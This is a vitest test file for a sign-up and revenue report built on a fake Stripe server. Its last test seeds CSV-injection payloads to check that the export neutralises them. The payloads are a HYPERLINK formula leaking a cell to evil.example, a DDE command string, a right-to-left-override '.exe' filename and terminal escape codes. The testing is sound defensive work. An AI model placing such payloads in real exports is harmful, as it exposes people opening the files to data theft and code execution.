import { afterAll, beforeEach, expect, test } from 'vitest'
import { formatUsd } from '../../../../src/shared/money'
import { PLANS } from '../../../../src/shared/plans'
import { SETUP_OPTIONS } from '../../../../src/shared/setup-options'
import { literally } from '../../../support/figures'
import { startReportRig } from '../../../support/report-rig'

const { fakeStripe, run, report, seed } = await startReportRig()
afterAll(() => fakeStripe.close())

const STARTER_CENTS = PLANS.starter.monthlyCents

/** Charges another price at the fake Stripe, until it is reset. */
function setPrice(id: string, cents: number): void {
  const price = fakeStripe.state.prices.get(id)
  if (price) fakeStripe.state.prices.set(id, { ...price, unit_amount: cents })
}

/** Parses CSV as RFC 4180 has it, so that the test reads what a spreadsheet would. */
function parseCsv(text: string): string[][] {
  return text
    .split('\r\n')
    .map((line) =>
      [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g)].map(
        ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
      ),
    )
}

beforeEach(() => {
  fakeStripe.state.reset()
})

test.each([
  ['trialing', 'inTrial', 0],
  ['active', 'converted', STARTER_CENTS],
  ['past_due', 'converted', STARTER_CENTS],
  ['canceled', 'canceled', 0],
  ['incomplete_expired', 'canceled', 0],
  ['unpaid', 'other', 0],
  ['paused', 'other', 0],
  ['incomplete', 'other', 0],
] as const)('a subscription that is %s counts as %s', async (outcome, column, revenue) => {
  seed({ outcome })
  const none = { inTrial: 0, converted: 0, canceled: 0, other: 0 }
  const figures = { ...none, [column]: 1, monthlyRevenueCents: revenue }
  expect((await report()).totals).toMatchObject(figures)
})

test('checkouts that were not finished do not count', async () => {
  seed({ outcome: 'open' }, { outcome: 'expired' })
  expect((await run([])).stdout).toContain('There are no finished sign-ups in this period.')
})

test('a yearly plan counts one twelfth, rounded once for each figure', async () => {
  // A twelfth of $1,000 is $83.3333…: two rows of one are rounded down, two together are $166.67.
  setPrice('price_starter_yearly', 100_000)
  seed(
    { billing: 'yearly', attribution: { utm_campaign: 'a' } },
    { billing: 'yearly', attribution: { utm_campaign: 'b' } },
  )
  const each = { monthlyRevenueCents: 8_333 }
  const totals = { monthlyRevenueCents: 16_667 }
  expect(await report()).toMatchObject({ rows: [each, each], totals })
})

test('the revenue is that of the subscription as it is now, not that of the order', async () => {
  setPrice('price_starter_monthly', 9_900)
  seed({})
  expect((await report()).totals.monthlyRevenueCents).toBe(9_900)
})

test('what is paid by use is no revenue of the plan', async () => {
  const { prices } = fakeStripe.state
  const price = prices.get('price_starter_monthly')
  if (price?.recurring)
    prices.set(price.id, { ...price, recurring: { ...price.recurring, usage_type: 'metered' } })
  seed({})
  expect((await report()).totals).toMatchObject({ converted: 1, monthlyRevenueCents: 0 })
})

test('sign-ups without a campaign have a row of their own, after the others', async () => {
  seed({}, {}, { attribution: { utm_source: 'google', utm_campaign: 'spring' } })
  const { stdout } = await run([])
  const revenue = literally(formatUsd(3 * STARTER_CENTS))
  const rows = stdout.split('\n').filter((line) => /^(?:spring|\(no|Total)/.test(line))
  expect(rows).toEqual([
    expect.stringMatching(/^spring +1 /),
    expect.stringMatching(/^\(no campaign\) +2 /),
    expect.stringMatching(String.raw`^Total +3 .* ${revenue}(?:\.00)? +\$0\.00$`),
  ])
  expect(stdout).toContain('Visits are not known')
  expect(await report()).toMatchObject({
    rows: [{ utm_campaign: 'spring' }, { utm_campaign: null }],
    visits: null,
  })
  expect((await run(['--by', 'utm_source'])).stdout).toContain('(no utm_source)')
})

test('one missing parameter of several differs from no campaign at all', async () => {
  seed({ attribution: { utm_source: 'chamber' } }, {})
  const { stdout } = await run(['--by', 'utm_source,utm_campaign', '--csv'])
  expect(parseCsv(stdout).map((row) => row.slice(0, 3))).toEqual([
    ['utm_source', 'utm_campaign', 'sign_ups'],
    ['chamber', '', '1'],
    ['(no campaign)', '', '1'],
  ])
})

test('the CSV has each figure in its own column', async () => {
  const [trialing, canceled] = [{ outcome: 'trialing' }, { outcome: 'canceled' }] as const
  seed({ plan: 'business', setup: 'assisted', ...trialing }, trialing, trialing, {})
  seed(canceled, canceled)
  const [titles = [], figures = []] = parseCsv((await run(['--csv'])).stdout)
  const fee = (SETUP_OPTIONS.assisted.feeCents / 100).toFixed(2)
  const revenue = (STARTER_CENTS / 100).toFixed(2)
  expect(Object.fromEntries(titles.map((title, index) => [title, figures[index]]))).toEqual({
    ...{ utm_campaign: '(no campaign)', sign_ups: '6', in_trial: '3', converted: '1' },
    ...{ canceled: '2', other: '0', starter: '5', business: '1', shimzy: '0' },
    ...{ monthly_revenue_usd: revenue, setup_fees_usd: fee },
  })
})

test('days count from midnight to midnight in the time zone of this computer', async () => {
  const at = (...moment: [number, number, number, number, number, number]) => ({
    created: new Date(...moment).getTime() / 1000,
  })
  seed(
    at(2026, 8, 30, 23, 59, 59),
    at(2026, 9, 1, 0, 0, 0),
    at(2026, 9, 31, 23, 59, 59),
    at(2026, 10, 1, 0, 0, 0),
  )
  const signUps = async (...args: string[]) => (await report(...args)).totals.signUps
  expect(await signUps('--since', '2026-10-01')).toBe(3)
  expect(await signUps('--until', '2026-10-31')).toBe(3)
  expect(await signUps('--since', '2026-10-01', '--until', '2026-10-31')).toBe(2)
  expect(await signUps('--since', '2026-10-01', '--until', '2026-10-01')).toBe(1)
})

test('a checkout that this site did not make is left out, and the report says so', async () => {
  seed({})
  const { id } = fakeStripe.state.sessions.create({
    mode: 'subscription',
    success_url: 'https://other.example/',
    line_items: [{ price: 'price_shimzy_monthly', quantity: 1 }],
  })
  fakeStripe.state.sessions.complete(id)
  const { stdout } = await run([])
  expect(stdout).toContain('Not counted: 1 finished checkout that this site did not make')
  expect(stdout).toMatch(/^Total +1 /m)
})

test('nothing personal is printed', async () => {
  seed({ attribution: { utm_campaign: 'dana@whitfield.example' } })
  for (const format of [[], ['--csv'], ['--json']]) {
    const { stdout } = await run(format)
    expect(stdout).toContain('[email]')
    expect(stdout).not.toMatch(/whitfield|customer\.example|Owner 1|Company 1|cs_test|sub_/)
  }
})

const HOSTILE = [
  '=HYPERLINK("https://evil.example?x="&A1,"Refund")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)*cmd',
  '＝1+1',
  'say "hi", they said',
  'first\r\nsecond\n=third',
  'tab\tbed',
  'gnp.\u202egpj.exe',
  '\u2067right to left\u2069',
  '\u001b[31mred\u001b[0m\u0007',
  '__proto__',
  'x'.repeat(400),
]

/** Control characters and the marks that change the reading direction. */
const UNPRINTABLE = /[\p{Cc}\u200e\u200f\u202a-\u202e\u2066-\u2069]/u

test('hostile values come out of the CSV as harmless text, one row each, and stay in their cell of the table', async () => {
  seed(...HOSTILE.map((utm_campaign) => ({ attribution: { utm_campaign } })))
  const { stdout } = await run(['--csv'])
  const cells = parseCsv(stdout)
  expect(cells).toHaveLength(HOSTILE.length + 1)
  for (const row of cells) {
    expect(row).toHaveLength(11)
    expect(row[0]).not.toMatch(/^[=+\-@＝＋－＠\t\r]/)
  }
  expect(stdout.replaceAll('\r\n', '')).not.toMatch(UNPRINTABLE)
  expect(cells.map(([name]) => name)).toContain('say "hi", they said')
  expect(cells.map(([name]) => name)).toContain(`'${HOSTILE[0]?.toLowerCase()}`)

  const lines = (await run([])).stdout.split('\n')
  const table = lines.slice(2, lines.indexOf('', 2))
  expect(table).toHaveLength(HOSTILE.length + 4)
  expect(new Set(table.map((line) => Array.from(line).length)).size).toBe(1)
  expect(lines.join('')).not.toMatch(UNPRINTABLE)
})

test('tags that differ in capitals are one row; pages and click ids are not folded', async () => {
  seed(
    { attribution: { utm_source: 'Google', landing_page: '/About' } },
    { attribution: { utm_source: 'google', landing_page: '/about' } },
  )
  const sources = await report('--by', 'utm_source')
  expect(sources.rows).toMatchObject([{ utm_source: 'google', signUps: 2 }])
  expect((await report('--by', 'landing_page')).rows).toHaveLength(2)
})
